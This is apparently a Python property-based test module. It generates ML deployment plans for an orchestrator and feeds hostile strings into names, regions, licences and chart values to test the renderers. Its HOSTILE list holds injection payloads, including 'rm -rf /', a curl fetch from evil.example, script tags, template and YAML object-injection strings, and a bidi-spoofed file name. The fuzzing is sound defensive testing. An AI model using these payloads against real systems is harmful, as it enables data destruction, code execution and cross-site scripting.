"""Generated plans of every kind of workload, with hostile names where text can come from outside."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from typing import Any

from hypothesis import strategies as st

from services.orchestrator.domain.candidates import Candidates
from services.orchestrator.domain.plan import DeploymentPlan, SecretNeed, WorkloadKind
from services.orchestrator.domain.planning.build import build_plan
from services.orchestrator.domain.planning.combine import with_parts
from services.orchestrator.domain.prices import UnitPrices
from services.orchestrator.domain.spec import TaskType, WorkloadSpec
from tests.orchestrator.planning.builders import (
    GPU_TYPES,
    by_region,
    chart,
    companion,
    memory,
    model,
    offer,
    prices,
    speed,
)

HOSTILE = (
    '"; rm -rf / #',
    "$(curl evil.example)",
    "a\nkind: Secret\n---\nb",
    "{{ .Values.secret }}",
    "`id`",
    "<script>alert(1)</script>",
    "x]] --> evil[[y",
    'he said "hi"',
    "| cell | break |",
    "[link](javascript:alert(1))",
    "!!python/object:os.system",
    "END_OF_SCRIPT",
    "'single' & double",
    "\u202egnp.exe",
    "*bold* _under_ ~strike~",
    "# heading",
    "%YAML 1.2",
    "模型-ü",
)
TASKS = (
    ("inference", "text-generation"),
    ("inference", "feature-extraction"),
    ("inference", "text-to-image"),
    ("inference", "image-classification"),
    ("inference", "automatic-speech-recognition"),
    ("inference", "time-series-forecasting"),
    ("inference", "tabular-classification"),
    ("rag", "text-generation"),
    ("batch_inference", "text-generation"),
    ("batch_inference", "image-segmentation"),
    ("fine_tuning", "text-generation"),
    ("training", "text-generation"),
    ("training", "image-segmentation"),
    ("training", "image-classification"),
    ("training", "object-detection"),
    ("training", "tabular-regression"),
    ("training", "reinforcement-learning"),
)
hostile = st.sampled_from(HOSTILE) | st.text(max_size=40)


@st.composite
def specs(draw: st.DrawFn) -> WorkloadSpec:
    kind, task = draw(st.sampled_from(TASKS))
    wishes: dict[str, Any] = {"task_type": kind, "model_task": task}
    optional: dict[str, st.SearchStrategy[Any]] = {
        "models": hostile.filter(bool).map(lambda name: (name,)),
        "dataset_size_gb": st.sampled_from((0.5, 100, 2000)),
        "dataset_items": st.integers(1, 10**7),
        "gpu_count_min": st.sampled_from((1, 2, 8, 16, 32)),
        "gpu_needed": st.booleans(),
        "budget_usd_month": st.integers(10, 10**5),
        "spot_ok": st.booleans(),
        "high_availability": st.booleans(),
        "concurrency": st.integers(1, 1000),
        "requests_per_second": st.floats(0.1, 500),
        "context_tokens": st.integers(512, 131072),
        "precision": st.sampled_from(("bf16", "fp16", "fp8", "int4", "awq")),
        "components": hostile.filter(bool).map(lambda name: ("mlflow", name)) | st.just(("triton",)),
        "deadline_hours": st.integers(1, 500),
        "prefers_local_cluster": st.booleans(),
    }
    chosen = draw(st.sets(st.sampled_from(sorted(optional)), max_size=6))
    return WorkloadSpec(**wishes, **{name: draw(optional[name]) for name in sorted(chosen)})


@st.composite
def candidates(draw: st.DrawFn, spec: WorkloadSpec) -> Candidates:
    name = draw(st.sampled_from(("org/model", "Org/Model_v1.5")) | hostile.filter(bool))
    precision = spec.precision or "bf16"
    total = draw(st.sampled_from((2.0, 20.0, 150.0, 900.0, 3000.0)))
    found = model(
        name,
        draw(st.none() | st.integers(10**6, 10**12)),
        gated=draw(st.booleans()),
        license=draw(hostile),
        license_note=draw(hostile),
    )
    if spec.models:
        found = replace(found, wished_as=spec.models[0])
    runs = spec.task_type in (TaskType.TRAINING, TaskType.FINE_TUNING)
    sizes = [memory(name, g, total, precision) for g in GPU_TYPES]
    sizes += [replace(memory(name, "T4", total, precision), gpu_type="", gpus=0)]
    speeds = [
        speed(name, g, n, 50.0, precision=precision, run_hours=200.0 / n if runs else None, requests_per_second=2.0)
        for g in GPU_TYPES
        for n in (1, 2, 4, 8, 16, 32, 64)
    ]
    place = draw(hostile)
    machines = [
        offer("aws", "T4", 1, "0.526", spot_price_per_hour=Decimal("0.16")),
        offer("gcp", "L4", 1, "0.7068"),
        offer("lambda", "A100-80GB-SXM", 8, "14.32"),
        offer("runpod", "MI300X", 8, "19.92", region=place),
        offer("aws", "H100-80GB-SXM", 8, "55.04", instance_type=draw(hostile)),
        offer("aws", "H100-80GB-SXM", 8, "20.0", price_model="spot", region="us-west-2"),
        offer(
            "local",
            "A100-80GB-SXM",
            4,
            draw(st.sampled_from((None, "1.50"))),
            price_model="owned",
            region="",
            country="",
        ),
        offer("aws", "", 0, "0.3836", instance_type="m7i.2xlarge", vcpus=8.0, memory_gib=2048.0),
        offer("gcp", "", 0, "0.39", instance_type="n2-standard-8", vcpus=8.0, memory_gib=2048.0),
    ]
    secret = SecretNeed(name="mlflow-db", keys=("password",), description=draw(hostile))
    values = {"nested": {"text": draw(hostile), "number": 3, "list": [draw(hostile), True]}}
    charts = (
        chart("gpu_operator", "gpu-operator", namespace="gpu-operator"),
        chart("monitoring", "kube-prometheus-stack", connection=draw(hostile)),
        chart("autoscaling", "keda"),
        chart(
            "experiment_tracking",
            draw(hostile) or "mlflow",
            needs=("monitoring",),
            values=values,
            secrets=(secret,),
            release=draw(hostile),
            companions=(companion(draw(hostile), values=values), companion("mlflow-crds")),
        ),
        chart("llm_gateway", "litellm", needs=("gpu_operator",)),
    )
    embedder = model(
        draw((st.just("BAAI/bge-base-en-v1.5") | hostile).filter(lambda other: other not in ("", name))),
        draw(st.sampled_from((None, 109_000_000, 7_000_000_000))),
        task="feature-extraction",
        purpose="embedding",
        gated=draw(st.booleans()),
    )
    return Candidates(
        models=(found, embedder),
        gpu_types=GPU_TYPES,
        memory=tuple(sizes),
        performance=tuple(speeds),
        offers=tuple(machines),
        offers_elsewhere=tuple(machines),
        unit_prices=UnitPrices((*prices("aws"), *by_region("gcp", "0.18", "0.17"), *prices("gcp")[::2])),
        charts=charts,
    )


@st.composite
def cases(draw: st.DrawFn) -> tuple[WorkloadSpec, Candidates]:
    """A spec and the records for it."""
    spec = draw(specs())
    return spec, draw(candidates(spec))


@st.composite
def plans(draw: st.DrawFn) -> DeploymentPlan:
    """A plan, now and then with the serving of what it trains, and with it everything that a renderer can meet."""
    spec, found = draw(cases())
    plan = build_plan(spec, found, plan_id="plan-1", conversation_id="c", traps=(draw(hostile),))
    trains = plan.workload is not None and plan.workload.kind is WorkloadKind.TRAINING
    if not trains or not draw(st.booleans()):
        return plan
    serving = WorkloadSpec(task_type="inference", model_task=spec.model_task, models=spec.models)
    part = build_plan(serving, found, plan_id="plan-2", conversation_id="c", after=plan.workload)
    return with_parts(plan, (part,), previous=None)
